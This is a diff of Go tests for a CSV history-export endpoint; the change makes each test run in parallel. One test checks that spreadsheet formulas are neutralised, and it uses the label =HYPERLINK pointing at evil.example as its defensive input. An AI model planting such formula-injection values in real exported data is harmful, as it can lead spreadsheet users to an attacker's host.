@@ -239,6 +239,7 @@ const combinedCSV = "/owner/v1/history.csv"
 // newest first, the JSON History's amounts and times, the saved notes,
 // CRLF line ends and the download headers.
 func TestHistoryCSVCardRowsAndNotes(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, mempool: 3, confirmed: 250, age: time.Hour, step: 24 * time.Hour})
 	id := e.card(csvAddrA, "Savings")
 	mempoolTx, spendTx := e.hist.tx(0, 1), e.hist.tx(0, 200) // 200: on the third page, older than a year
@@ -287,6 +288,7 @@ func TestHistoryCSVCardRowsAndNotes(t *testing.T) {
 // RFC 4180 says; text that a spreadsheet would run as a formula gets a
 // leading quote; a negative amount stays a number.
 func TestHistoryCSVQuotesAndNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, confirmed: 8, age: time.Hour, step: time.Hour})
 	id := e.card(csvAddrA, `=HYPERLINK("http://evil.example/?x","a, b")`)
 	notes := []struct{ text, want string }{
@@ -329,6 +331,7 @@ func TestHistoryCSVQuotesAndNeutralisesFormulas(t *testing.T) {
 // it gives no rows although the JSON History previews older ones; the
 // extended plan's file holds everything.
 func TestHistoryCSVWindowPerPlan(t *testing.T) {
+	t.Parallel()
 	busy := csvAddr{address: csvAddrA, mempool: 1, confirmed: 500, age: 12 * time.Hour, step: 24 * time.Hour}
 	dormant := csvAddr{address: csvAddrB, confirmed: 30, age: 400 * 24 * time.Hour, step: 24 * time.Hour}
 	for _, plan := range []actors.Plan{actors.PlanBase, actors.PlanExtended} {
@@ -381,6 +384,7 @@ func TestHistoryCSVWindowPerPlan(t *testing.T) {
 // The combined file interleaves the cards newest first, by block, with
 // each row naming its card.
 func TestHistoryCSVCombinedOrder(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended,
 		csvAddr{address: csvAddrA, mempool: 1, confirmed: 150, age: time.Hour, step: 3 * time.Hour},
 		csvAddr{address: csvAddrB, confirmed: 220, age: 2 * time.Hour, step: 2 * time.Hour})
@@ -410,6 +414,7 @@ func TestHistoryCSVCombinedOrder(t *testing.T) {
 // Unknown cards, unknown query parameters and a missing credential get the
 // documented errors, not a file.
 func TestHistoryCSVRefusals(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanBase, csvAddr{address: csvAddrA, confirmed: 3, age: time.Hour, step: time.Hour})
 	id := e.card(csvAddrA, "A")
 	e.mustFail(cardCSV("nosuchcard"), fasthttp.StatusNotFound, actors.CodeNotFound)
@@ -423,6 +428,7 @@ func TestHistoryCSVRefusals(t *testing.T) {
 // An upstream that fails on a card's first page gives the JSON History's
 // upstream error, 503 HTTP_ERROR, and no file at all.
 func TestHistoryCSVUpstreamDownIsAnError(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended,
 		csvAddr{address: csvAddrA, confirmed: 10, age: time.Hour, step: time.Hour},
 		csvAddr{address: csvAddrB, confirmed: 10, age: time.Hour, step: time.Hour})
@@ -437,6 +443,7 @@ func TestHistoryCSVUpstreamDownIsAnError(t *testing.T) {
 // An upstream that fails once rows have gone out ends the file with an
 // INCOMPLETE row saying how far it got.
 func TestHistoryCSVUpstreamFailureMidFileIsMarked(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended,
 		csvAddr{address: csvAddrA, confirmed: 350, age: time.Hour, step: time.Hour},
 		csvAddr{address: csvAddrB, confirmed: 5, age: time.Hour, step: time.Hour})
@@ -459,6 +466,7 @@ func TestHistoryCSVUpstreamFailureMidFileIsMarked(t *testing.T) {
 // client has the earlier pages before the later ones are asked for, so the
 // file is never held whole) and ends with the INCOMPLETE row.
 func TestHistoryCSVStreamsAndMarksTheOffsetCeiling(t *testing.T) {
+	t.Parallel()
 	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, confirmed: chain.HistoryOffsetCeiling + 50, age: time.Hour, step: time.Minute})
 	id := e.card(csvAddrA, "Exchange")
 	page := e.mustJSON("GET", "/owner/v1/history/cards/"+id+"/transactions?offset=9900&limit=100", nil, fasthttp.StatusOK)
@@ -519,6 +527,7 @@ func TestHistoryCSVStreamsAndMarksTheOffsetCeiling(t *testing.T) {
 }
 
 func TestHistoryCSVFileNamePart(t *testing.T) {
+	t.Parallel()
 	for in, want := range map[string]string{
 		"Savings":                     "savings",
 		`a"b\c/d`:                     "a-b-c-d",
@@ -537,6 +546,7 @@ func TestHistoryCSVFileNamePart(t *testing.T) {
 // A download may take longer to write than the edge's write timeout (a full
 // history is hundreds of upstream pages); nothing else may.
 func TestHistoryCSVWriteTimeout(t *testing.T) {
+	t.Parallel()
 	for uri, want := range map[string]time.Duration{
 		"/owner/v1/history.csv":                            historyCSVWriteTimeout,
 		"/owner/v1/history.csv?x=1":                        historyCSVWriteTimeout,
